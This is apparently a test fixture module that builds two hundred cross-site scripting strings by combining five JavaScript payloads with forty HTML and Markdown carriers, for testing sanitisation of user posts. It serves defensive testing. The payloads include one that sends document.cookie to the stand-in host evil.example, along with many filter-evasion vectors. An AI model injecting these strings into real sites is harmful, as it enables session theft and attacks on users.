/** Commands that an attacker would want to run. */
const PAYLOADS = [
  'alert(1)',
  'alert`1`',
  'fetch("//evil.example/"+document.cookie)',
  'location="https://evil.example"',
  'eval(atob("YWxlcnQoMSk="))',
]

/** Ways to carry a command into the page, with `@` for it (OWASP's filter evasion list, the XSS vectors of CommonMark readers). */
const CARRIERS = [
  '<script>@</script>',
  '<img src=x onerror=@>',
  '<svg/onload=@>',
  '<svg><script>@</script></svg>',
  '<iframe srcdoc="<script>@</script>">',
  '<a href="javascript:@">x</a>',
  '<details open ontoggle=@>',
  '<math><mi xlink:href="javascript:@">x</mi></math>',
  '<style>@import "javascript:@"</style>',
  '<body onpageshow=@>',
  '<!--><img src=x onerror=@>-->',
  '<![CDATA[<script>@</script>]]>',
  '<?xml version="1.0"?><script>@</script>',
  '</script><script>@</script>',
  '</style></title></textarea><script>@</script>',
  '[x](javascript:@)',
  '[x](JaVaScRiPt:@)',
  '[x](java&#115;cript:@)',
  '[x](&#106;avascript:@)',
  '[x](data:text/html,<script>@</script>)',
  '[x](vbscript:@)',
  '[x](//evil.example/?@)',
  '[x](/\\evil.example/?@)',
  '[x](\\\\evil.example/@)',
  '[x](https://evil.example" onclick="@)',
  "[x](/a' onclick='@)",
  '[x](https://evil.example/><script>@</script>)',
  '[x](\u0001javascript:@)',
  '[x](java\u200bscript:@)',
  '[x](blob:https://evil.example/@)',
  '![x](javascript:@)',
  '![x" onerror="@](/y)',
  '<javascript:@>',
  '<https://evil.example/"onclick="@>',
  '[x]: javascript:@\n\n[x]',
  '```html\n<script>@</script>\n```',
  '    <script>@</script>',
  '`<script>@</script>`',
  '**<img src=x onerror=@>**',
  '## <script>@</script>',
]

/** Two hundred hostile posts, for the tests of everything that shows one. */
export const HOSTILE_POSTS = CARRIERS.flatMap((carrier) =>
  PAYLOADS.map((payload) => carrier.replaceAll('@', () => payload)),
)
